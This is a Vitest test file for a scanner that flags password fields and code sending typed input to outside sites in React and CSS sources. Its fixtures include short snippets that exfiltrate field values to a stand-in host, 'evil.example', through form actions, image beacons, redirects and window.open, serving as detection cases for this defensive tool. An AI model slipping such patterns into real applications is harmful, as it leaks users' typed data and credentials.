import { describe, expect, it } from "vitest";
import { inspectCode } from "./inspect-code.ts";

const signsOf = (source: string, path = "src/custom/part.tsx") => inspectCode({ [path]: source }, [path]).signs.map(({ kind }) => kind);

describe("signs in code that somebody wrote", () => {
  it.each([
    ["a field for a password", "export const A = () => <input type='password' />"],
    ["one that shows it at will", 'export const A = ({ on }) => <input type={on ? "text" : "password"} />'],
    ["one made by hand", 'import { createElement } from "react"; export const A = () => createElement("input", { type: "password" })'],
    ["one whose kind is a name", 'const KIND = "pass" + "word"; export const A = () => <input type={KIND} />'],
    ["one that becomes it later", 'export const a = (field) => { field.type = "password" }'],
    ["one that becomes it by attribute", 'export const a = (field) => field.setAttribute("type", "password")'],
    ["one the browser fills with a password", 'export const A = () => <input autoComplete="current-password" />'],
    ["one for the number of a card", 'export const A = () => <input autoComplete="cc-csc" />'],
    ["dots drawn by style", 'export const A = () => <input style={{ WebkitTextSecurity: "disc" }} />'],
    ["dots drawn by a class", 'export const A = () => <input className="[-webkit-text-security:disc]" />'],
  ])("sees %s", (_what, source) => expect(signsOf(source)).toContain("password"));

  it("sees dots drawn by a stylesheet", () => expect(signsOf(".a{-webkit-text-security:disc}", "src/app.css")).toEqual(["password"]));

  it.each([
    ["form", 'export const A = () => <form action="https://evil.example/take"><input name="a" /></form>'],
    ["form", 'export const A = () => <button formAction="//evil.example">다음</button>'],
    ["picture", 'export const A = () => <input onChange={(e) => { new Image().src = "https://evil.example/?v=" + e.target.value }} />'],
    [
      "picture",
      "import { useState } from 'react'; export function A() { const [id, setId] = useState(''); return <><input onChange={(e) => setId(e.target.value)} /><img src={`https://evil.example/${id}.png`} /></> }",
    ],
    [
      "page",
      "import { useRef } from 'react'; export function A() { const field = useRef(null); const go = () => { const typed = encodeURIComponent(field.current.value); location.href = `https://evil.example/?q=${typed}` }; return <button onClick={go}>확인</button> }",
    ],
    ["page", "export const send = (form) => { const all = new FormData(form); window.open('https://evil.example/?' + all.get('id')) }"],
  ])("sees a %s that takes what is typed elsewhere", (kind, source) => expect(signsOf(source)).toEqual([kind]));

  it.each([
    ["a way to a place", "export const A = ({ place }) => <a href={`https://map.naver.com/p/search/${place}`}>지도</a>"],
    [
      "a search elsewhere",
      "import { useState } from 'react'; export function A() { const [q, setQ] = useState(''); return <><input onChange={(e) => setQ(e.target.value)} /><a href={`https://search.naver.com/search.naver?query=${q}`}>찾기</a></> }",
    ],
    ["a picture from a list", "export const A = ({ id }) => <img alt='' src={`https://images.example/${id}.png`} />"],
    ["a form of its own", "export const A = () => <form onSubmit={(e) => e.preventDefault()}><input name='name' /></form>"],
    ["words about passwords", "export const A = () => <p>비밀번호는 매달 바꿔 주세요. type=password</p>"],
    ["a drawing", 'export const A = () => <svg xmlns="http://www.w3.org/2000/svg" />'],
  ])("lets pass %s", (_what, source) => expect(signsOf(source)).toEqual([]));

  it("is not kept busy by texts made of texts made of texts", () => {
    const lines = Array.from({ length: 40 }, (_, at) => `const t${at} = \`${`\${t${at + 1}}`.repeat(200)}\`;`);
    expect(signsOf(`${lines.join("\n")}\nconst t40 = "password";\nexport const A = () => <input type={t0} />`)).toEqual([]);
  });

  it("answers the words that may be shown, and says what it cannot read", () => {
    const path = "src/custom/part.tsx";
    expect(inspectCode({ [path]: "export const A = () => <h1 title='둘'>하나 로그인</h1>" }, [path]).texts).toEqual(["둘", "하나 로그인"]);
    expect(signsOf("export const A = <<<")).toEqual(["unread"]);
  });
});
